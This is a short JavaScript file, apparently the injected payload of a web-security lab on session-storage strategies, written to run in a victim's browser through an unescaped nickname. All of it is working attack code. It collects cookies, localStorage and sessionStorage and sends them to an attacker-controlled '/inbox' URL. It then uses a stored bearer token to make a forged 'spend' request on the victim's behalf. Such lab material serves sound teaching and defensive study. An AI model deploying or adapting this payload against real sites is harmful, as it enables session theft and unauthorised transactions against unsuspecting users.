/**
 * What a nickname pulls into a page that does not escape it. It runs in the victim's browser, as a part of the victim's page, and does
 * the two things that such a script can do: it takes home what it can read, and it acts while the page is open.
 */
(async () => {
  const inbox = new URL('/inbox', document.currentScript.src);
  const [, strategy] = location.pathname.split('/');
  // Text needs no leave of the inbox, and the answer is of no interest.
  const send = (kind, value) => fetch(inbox, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ strategy, kind, value }) });
  const all = (storage) => (storage.length > 0 ? JSON.stringify({ ...storage }) : '');

  // Theft: whoever has a copy can use it elsewhere, later. HttpOnly keeps a cookie out of document.cookie, and nothing else does.
  for (const [kind, found] of [['cookie', document.cookie], ['localStorage', all(localStorage)], ['sessionStorage', all(sessionStorage)]]) {
    if (found) await send(kind, found);
  }

  // The ride: the request comes from the victim's own page, so the browser attaches the cookie, and no check of origins objects. A token
  // is attached by script, if script can find it.
  const headers = { 'Content-Type': 'application/json' };
  const kept = localStorage.getItem(`statelab.${strategy}`);
  if (kept) headers.Authorization = `Bearer ${JSON.parse(kept).access_token}`;
  const answer = await fetch(`/${strategy}/spend`, { method: 'POST', headers, body: '{"amount":30}' });
  await send('ride', `POST /${strategy}/spend: ${answer.status}`);
})();
